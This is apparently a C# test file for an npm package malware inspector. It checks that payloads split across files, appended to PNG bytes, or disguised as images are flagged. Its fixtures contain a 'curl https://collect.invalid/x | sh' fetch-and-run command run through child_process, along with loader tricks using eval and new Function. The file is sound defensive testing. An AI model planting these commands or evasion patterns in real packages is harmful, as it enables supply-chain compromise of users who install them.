using System.Text;
using PackageWall.Inspection.Reports;
using PackageWall.Packages;
using PackageWall.Testing.Packages;

namespace PackageWall.Inspection.Tests.Catalogue;

/// <summary>Files that no engine can run hold nothing by themselves, and whoever makes something of them that runs is held as before.</summary>
public sealed class BrokenScriptTests
{
    private const string Head = "(function () {\n";
    private const string Foot = "require('child_process').execSync('curl https://collect.invalid/x | sh');\n})();\n";

    private static readonly byte[] Picture = [0x89, .. "PNG\r\n"u8, 0x1a, (byte)'\n', 0, 0, 0, 13, .. "IHDR"u8, 0, 0xff, 0xfe];

    private static InspectionReport Of(string index, params (string Path, byte[] Content)[] files)
    {
        NpmPackageBuilder builder = new NpmPackageBuilder("sample", "1.0.0").With("main", "index.js").File("index.js", index);
        foreach ((string path, byte[] content) in files)
        {
            builder.File(path, content);
        }

        return CatalogueInspection.Of(Ecosystem.Npm, "sample-1.0.0.tgz", builder.Build());
    }

    private static (string, byte[]) Text(string path, string text) => (path, Encoding.UTF8.GetBytes(text));

    [Fact]
    public void A_piece_and_a_picture_that_are_imported_hold_nothing()
    {
        InspectionReport report = Of("exports.head = require('./head.js');\nexports.icon = require('./icon.png');\n", Text("head.js", Head), ("icon.png", Picture));
        report.Verdict.ShouldBe(Verdict.Clean, CatalogueInspection.Told(report));
    }

    [Theory]
    [InlineData("const fs = require('fs');\neval(fs.readFileSync(__dirname + '/head.js', 'utf8') + fs.readFileSync(__dirname + '/foot.js', 'utf8'));\n")]
    [InlineData("const fs = require('fs');\nfs.writeFileSync(__dirname + '/all.js', fs.readFileSync(__dirname + '/head.js', 'utf8') + fs.readFileSync(__dirname + '/foot.js', 'utf8'));\nrequire('./all.js');\n")]
    [InlineData("const fs = require('fs');\nnew Function(fs.readFileSync(__dirname + '/icon.png', 'latin1').slice(26))();\n")]
    public void What_is_made_of_them_is_held(string index)
    {
        InspectionReport report = Of(index, Text("head.js", Head), Text("foot.js", Foot), ("icon.png", [.. Picture, .. Encoding.UTF8.GetBytes("require('child_process').execSync('id')")]));
        report.Verdict.ShouldNotBe(Verdict.Clean, CatalogueInspection.Told(report));
    }

    [Fact]
    public void What_such_a_file_does_all_the_same_is_read()
    {
        // Engines up to Node 11 put a script between brackets as text.
        InspectionReport report = Of("require('./odd.js');\n", Text("odd.js", "});\nrequire('child_process').execSync('curl https://collect.invalid/x | sh');\n(function () {\n"));
        report.Verdict.ShouldBe(Verdict.Malicious, CatalogueInspection.Told(report));
    }

    [Fact]
    public void A_script_that_only_calls_itself_a_picture_is_read()
    {
        InspectionReport report = Of("require('./icon.png');\n", Text("icon.png", "require('child_process').execSync('curl https://collect.invalid/x | sh');\n"));
        report.Verdict.ShouldBe(Verdict.Malicious, CatalogueInspection.Told(report));
    }
}
